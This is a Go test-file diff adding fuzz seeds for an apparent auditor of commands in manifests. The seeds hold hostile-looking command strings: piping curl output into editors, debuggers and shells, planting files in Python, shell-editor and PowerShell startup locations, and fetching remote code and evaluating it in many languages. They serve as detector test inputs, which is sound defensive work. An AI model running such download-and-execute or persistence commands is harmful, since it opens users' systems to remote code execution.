@@ -337,6 +337,8 @@ var fuzzSeeds = [][]string{
 	{"groovy", "-e", "'npx p'.execute(); ['sh','-c','x'].execute(); new ProcessBuilder(List.of(\"a\", 'b')); x.exec(new String[]{\"c\"})"},
 	{"sh", "-c", "curl h://x | ed; curl h://x | ex -s; curl h://x | vim -es; curl h://x | dc -f - x; curl h://x | ftp; curl h://x | gdb -batch -x /dev/stdin; curl h://x | lldb -b; curl h://x | script -q /dev/null; curl h://x | ssh -p 2 u@[::1]:22; curl h://x | ssh ssh://localhost:2 'echo; { bash -s; }'; curl h://x | sh -c 'a && (b || sh) | c; sh &'; curl -o /t/a h://x; vim -s /t/a; emacs -l /t/a; lldb --source=/t/a; tmux -f /t/a source-file -q /t/a \\; x; screen -c /t/a; ssh -F /t/a h; sftp -b /t/a h; dc -e '!npx p' -e '1!<a' /t/a; ed - < /t/a"},
 	{"sh", "-c", "curl -o ~/.local/lib/python3/site-packages/a.pth h://x; cp a /usr/lib/python3/dist-packages/usercustomize.py; echo x >> ~/.vimrc; tee ~/_vimrc ~/.config/nvim/init.vim ~/.emacs.d/init.el ~/.lldbinit ~/.screenrc ~/.sqliterc < a; cp a ~/.config/tmux/tmux.conf ~/.ipython/profile_default/startup/a.py ~/Documents/WindowsPowerShell/profile.ps1; cat .pth site-packages/.PTH x.pth"},
+	{"python3", "-c", "exec(urlopen(u).read()); eval(requests.get(x).text); compile(httpx.get(y))"},
+	{"sh", "-c", "node -e 'fetch(u).then(eval); import(\"https://h/a.js\")'; ruby -e 'eval(URI.open(u).read)'; perl -e 'eval get($u); eval $ua->get($u)'; php -r 'eval(file_get_contents($u)); include \"http://h/a\";'; Rscript -e 'source(url(u)); eval(parse(text=readLines(u)))'; julia -e 'include(download(u))'; lua -e 'loadstring(http.request(u))'; awk 'BEGIN{\"wget -qO- h\"|getline l; printf l | \"/bin/bash -s\"}'; deno eval 'eval(await (await fetch(u)).text())'"},
 }
 
 // FuzzAudit decodes arbitrary manifests and audits the ones that parse: no
